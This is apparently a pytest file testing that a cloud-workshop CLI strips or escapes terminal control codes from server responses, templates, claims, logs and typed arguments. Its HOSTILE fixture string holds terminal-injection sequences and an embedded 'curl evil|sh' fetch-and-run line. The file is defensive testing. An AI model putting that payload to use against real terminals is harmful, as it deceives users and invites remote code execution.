"""Escape codes in what others send (an HTTP answer, a template, a claim, a log): no command passes one on."""

from __future__ import annotations

import json
import re

import pytest

from tests.cloud.shell import HOME_REGION
from tests.cloud.test_terminal import on_a_terminal
from tests.unit.fakes.http_server import Server

pytestmark = pytest.mark.cloud
APART = True
HOSTILE = "\x1b]0;TITLE\x07\x1b[2J\x1b[1;1H\x1b[32mhostile is ready. Run: curl evil|sh\x9b8m\u202e\x7f\r"
CLAIM = "/workshop/hostile/claim"
OWN = re.compile(r"\x1b\[[0-9;?]*[A-Za-z]")
DEFINITION = """
name: hostile
title: A workshop of a stranger
regions: [us-west-2, eu-west-1]
modules:
  - name: check
    title: Look
    steps:
      - {id: look, kind: http.check, in: home, with: {url: '%s', deadline: 1}}
"""


def harmless(text: str) -> None:
    """No hidden character but line breaks and, on a terminal, our own colours and cursor codes."""
    assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202e]", OWN.sub("", text).replace("\r\n", "\n").replace("\r", ""))
    assert "\x1b]0" not in text and "\x1b[1;1H" not in text and "\x1b[8m" not in text


@pytest.fixture
def hostile(clean):
    """A workshop whose one step asks a server that sends escape codes."""
    folder = clean.work / "hostile"
    folder.mkdir(exist_ok=True)
    with Server(lambda _: (500, HOSTILE.encode())) as server:
        (folder / "workshop.yaml").write_text(DEFINITION % server.url)
        yield clean


def test_an_answer_of_a_server_is_shown_without_its_escape_codes(hostile):
    for words, code in ((("setup", "--yes"), 1), (("status",), 0), (("setup", "--plan"), 0), (("explain",), 0)):
        done = hostile.run(*words, "--workshop", "./hostile", code=code)
        harmless(done.out + done.err)
        assert "is ready. Run" not in [line.strip()[:13] for line in (done.out + done.err).splitlines()]
    assert r"\x1b]0;TITLE\x07\x1b[2J" in hostile.run("status", "--workshop", "./hostile").out


def test_documents_hold_the_text_of_a_server_as_escapes(hostile):
    done = hostile.run("setup", "--workshop", "./hostile", "--yes", "--json", code=1)
    harmless(done.out + done.err)
    assert r"\x1b]0;TITLE\x07" in done.document["steps"][0]["error"]["why"]
    status = hostile.run("status", "--workshop", "./hostile", "--json")
    harmless(status.out)
    assert "TITLE" in status.document["steps"][0]["detail"]


def test_a_terminal_shows_our_colours_and_no_foreign_codes(hostile):
    seen = on_a_terminal(hostile, "setup", "--workshop", "./hostile", "--yes", code=1)
    harmless(seen)
    assert "\x1b[31m" in seen and "TITLE" in seen
    harmless(on_a_terminal(hostile, "status", "--workshop", "./hostile"))


@pytest.mark.parametrize("codes", [r"\x1b[2K\r", r"\x1b[8m", r"\x9b8m", r"\u202e", r"\x7f"])
def test_a_template_that_makes_escape_codes_is_refused_with_its_field(clean, codes):
    folder = clean.work / "hidden"
    folder.mkdir(exist_ok=True)
    url = f'{{{{ "http://127.0.0.1:9/{codes}" }}}}'
    (folder / "workshop.yaml").write_text(DEFINITION.replace("name: hostile", "name: hidden") % url)
    for words in (("definition", "lint", "./hidden"), ("setup", "--workshop", "./hidden"), ("explain", "--workshop", "./hidden")):
        done = clean.run(*words, code=2)
        harmless(done.out + done.err)
        assert "with.url" in done.out + done.err and "cannot be seen" in done.out + done.err


def test_a_claim_with_escape_codes_is_shown_without_them(hostile):
    holder = {"token": "t", "machine": "m", "host": f"h{HOSTILE}", "user": HOSTILE, "pid": 1, "command": f"setup {HOSTILE}",
              "since": "2026-01-01T09:00:00+00:00", "until": "2999-01-01T09:00:00+00:00"}  # fmt: skip
    hostile.client("ssm", HOME_REGION).put_parameter(Name=CLAIM, Value=json.dumps(holder), Type="String")
    try:
        for words, code in ((("setup", "--yes"), 1), (("teardown",), 1), (("check", "--only", "leftovers"), 0)):
            done = hostile.run(*words, "--workshop", "./hostile", code=code)
            harmless(done.out + done.err)
        harmless(on_a_terminal(hostile, "teardown", "--workshop", "./hostile", code=1))
    finally:
        hostile.client("ssm", HOME_REGION).delete_parameter(Name=CLAIM)


def test_the_log_of_the_cloud_is_printed_without_the_codes_that_others_wrote_into_it(clean):
    log = clean.state / "cloud" / "cloud.log"
    before = log.read_bytes()
    try:
        log.write_bytes(before + f"WARNING {HOSTILE}\n".encode())
        done = clean.run("cloud", "logs", "-n", "1")
        harmless(done.out)
        assert done.out.startswith(r"WARNING \x1b]0;TITLE") and done.out.count("\n") == 1
        harmless(clean.run("cloud", "logs", "-n", "1", "--json").out)
    finally:
        log.write_bytes(before)


def test_words_that_were_typed_are_repeated_without_their_codes(clean):
    for words in (("status", "--workshop", HOSTILE), (HOSTILE,), ("step", "show", HOSTILE), ("cloud", HOSTILE)):
        done = clean.run(*words, code=2)
        harmless(done.out + done.err)
        assert "TITLE" in done.err
